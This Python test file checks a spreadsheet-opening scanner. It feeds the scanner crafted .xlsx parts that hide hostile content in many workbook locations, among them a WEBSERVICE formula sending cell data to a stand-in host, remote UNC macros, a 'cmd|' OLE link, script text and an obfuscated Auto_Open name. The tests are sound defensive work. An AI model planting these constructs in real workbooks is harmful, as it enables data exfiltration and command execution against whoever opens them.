"""Wherever a formula stands in a workbook it is looked at; the same place may hold another one."""

from typing import Any

import pytest

from tests.workers.opening.files import packed, parts, plain, with_part, with_text
from workers.opening import package

FETCH = "WEBSERVICE(&quot;https://x.test/&quot;&amp;A1)"
SHEET = "xl/worksheets/sheet1.xml"
OF_A_COLUMN = "calculatedColumnFormula"
CLIENT = '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:x"><v:shape type="#t">'
CLIENT += '<x:ClientData ObjectType="{}">{}</x:ClientData></v:shape></xml>'
EXTENDED = "<w><x:{0} xmlns:x='u'><y:f xmlns:y='v'>{{}}</y:f></x:{0}></w>"
ANCHORED = '<xdr:wsDr xmlns:xdr="urn:d" xmlns:a="urn:a">{}</xdr:wsDr>'

# Part, and what stands in it, with a place for a formula.
PLACES = {
    "table column": ("tables/table1.xml", f"<t><{OF_A_COLUMN}>{{}}</{OF_A_COLUMN}></t>"),
    "table total": ("tables/table1.xml", "<t><totalsRowFormula>{}</totalsRowFormula></t>"),
    "pivot field": ("pivotCache/a.xml", '<p><cacheField name="a" formula="{}"/></p>'),
    "pivot item": ("pivotCache/a.xml", "<p><calculatedItem field='1' formula='{}'/></p>"),
    "validation": ("worksheets/a.xml", "<w><formula1>{}</formula1></w>"),
    "second of a validation": ("worksheets/a.xml", "<w><formula2>{}</formula2></w>"),
    "newer validation": ("worksheets/a.xml", EXTENDED.format("formula1")),
    "rule": ("worksheets/a.xml", "<w><cfRule type='expression'><formula>{}</formula></cfRule></w>"),
    "limit of a rule": ("worksheets/a.xml", '<w><cfvo type="formula" val="{}"/></w>'),
    "newer limit": ("worksheets/a.xml", EXTENDED.format("cfvo")),
    "limit behind a remark": ("worksheets/a.xml", '<w><!-- --><cfvo type="formula" val="{}"/></w>'),
    "limit with the other marks": ("worksheets/a.xml", "<w><cfvo a='&gt;' val\n =\n'{}' /></w>"),
    "sparkline": ("worksheets/a.xml", EXTENDED.format("sparkline")),
    "name": ("workbook2.xml", '<w><definedName name="a">{}</definedName></w>'),
    "chart": ("charts/chart1.xml", "<c:c xmlns:c='u'><c:numRef><c:f>{}</c:f></c:numRef></c:c>"),
    "newer chart": ("charts/chart1.xml", "<c:c xmlns:c='u'><c:f dir='row'>{}</c:f></c:c>"),
    "text box": ("drawings/a.xml", ANCHORED.format('<xdr:sp macro="" textlink="{}"/>')),
    "camera": ("drawings/a.xml", ANCHORED.format('<a:cameraTool cellRange="{}"/>')),
    "form control": ("ctrlProps/a.xml", '<formControlPr objectType="Drop" fmlaRange="{}"/>'),
    "control of a sheet": ("worksheets/a.xml", '<w><controlPr linkedCell="{}"/></w>'),
    "old control": ("drawings/a.vml", CLIENT.format("Drop", "<x:FmlaRange>{}</x:FmlaRange>")),
    "old picture": ("drawings/a.vml", CLIENT.format("Pict", "<x:FmlaPict>{}</x:FmlaPict>")),
}


def placed(place: str, formula: str) -> bytes:
    name, xml = PLACES[place]
    return with_part(".xlsx", f"xl/{name}", xml.replace("{}", formula).encode())


@pytest.mark.parametrize("place", PLACES)
def test_a_formula_in_whatever_place_is_looked_at(check: Any, place: str):
    assert check(placed(place, FETCH), ".xlsx")["refused"] == "reaching_formula"
    assert "facts" in check(placed(place, "SUM(Data!$A$1:$A$9)"), ".xlsx")


PARTS = {
    "a macro of another book": (
        CLIENT.format("Button", r"<x:FmlaMacro>'\\host\a.xlsm'!Run_it</x:FmlaMacro>"),
        CLIENT.format("Button", "<x:FmlaMacro>[0]!Button1_Click</x:FmlaMacro>"),
    ),
    "a macro by number": (
        CLIENT.format("Button", "<x:FmlaMacro>[1]!Run_it</x:FmlaMacro>"),
        CLIENT.format("Button", "<x:FmlaMacro></x:FmlaMacro>"),
    ),
    "a picture with a macro": (
        ANCHORED.format(r"<xdr:pic macro='\\host\a.xlsm!Run_it'/>"),
        ANCHORED.format('<xdr:pic macro="[0]!Run_it"/>'),
    ),
    "a script": (
        CLIENT.format("Pict", "<x:ScriptText>alert(1)</x:ScriptText>"),
        CLIENT.format("Note", "<x:Author>ScriptText</x:Author>"),
    ),
    "a live object": (
        CLIENT.format("Pict", "<x:DDE/>"),
        CLIENT.format("Pict", "<x:CF>Pict</x:CF>"),
    ),
    "an object in a sheet": (
        "<w><oleObject progId='Package' link='cmd|x!y' shapeId='1'/></w>",
        "<w><oleObjects/></w>",
    ),
    "a page that is published": (
        r"<w><webPublishItem id='1' destinationFile='\\host\a.htm' autoRepublish='1'/></w>",
        "<w><webPublishItems count='0'/></w>",
    ),
}


@pytest.mark.parametrize(("harmful", "harmless"), PARTS.values(), ids=PARTS)
def test_what_acts_in_a_workbook_is_refused(check: Any, harmful: str, harmless: str):
    files = [with_part(".xlsx", "xl/a.xml", xml.encode()) for xml in (harmful, harmless)]

    assert check(files[0], ".xlsx")["refused"] == "active_content"
    assert "facts" in check(files[1], ".xlsx")


def test_a_name_that_runs_by_itself_is_found_however_it_is_written(check: Any):
    def named(name: bytes) -> Any:
        xml = b'<w><definedName name="%b">A1</definedName></w>' % name
        return check(with_part(".xlsx", "xl/a.xml", xml), ".xlsx")

    assert named(b"Auto_x005F_Open")["refused"] == "reaching_formula"
    assert "facts" in named(b"Autumn")


def test_without_the_rules_a_workbook_with_them_opens(check: Any, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(package, "LOOKS", {".xlsx": lambda content: set()})
    places = [placed(place, FETCH) for place in PLACES]

    assert all("facts" in check(file, ".xlsx") for file in places)


def test_a_long_sheet_is_read_once(monkeypatch: pytest.MonkeyPatch):
    """By the pattern alone: the parser takes eight times as long."""
    monkeypatch.setattr(package.workbooks, "elements", None)
    rules = b'<cfvo type="formula" val="$A$1"/><cfvo type="max"/></worksheet>'

    package.check(with_text(".xlsx", SHEET, b"</worksheet>", rules), ".xlsx")


def test_a_part_in_the_binary_format_is_refused(check: Any):
    """Formulas there are numbers, and LibreOffice reads what ends in .bin so."""
    rels = "xl/_rels/workbook.xml.rels"
    target = b'Target="/xl/worksheets/sheet1.%b"'
    binary = with_text(".xlsx", rels, target % b"xml", target % b"bin")
    printer = b'<r><Relationship Id="a" Type="urn:x/printerSettings" Target="a.bin"/></r>'
    printed = {
        "xl/worksheets/_rels/sheet1.xml.rels": printer,
        "xl/worksheets/a.bin": b"\x00",
    }

    assert check(binary, ".xlsx")["refused"] == "active_content"
    assert "facts" in check(packed({**parts(plain(".xlsx")), **printed}), ".xlsx")


def test_a_type_of_the_binary_format_is_refused(check: Any):
    def typed(kind: bytes) -> Any:
        one = b'<Override PartName="/a" ContentType="application/vnd.ms-excel.%b"/></Types>' % kind
        return check(with_text(".xlsx", "[Content_Types].xml", b"</Types>", one), ".xlsx")

    assert typed(b"worksheet")["refused"] == "active_content"
    assert "facts" in typed(b"threadedcomments+xml")
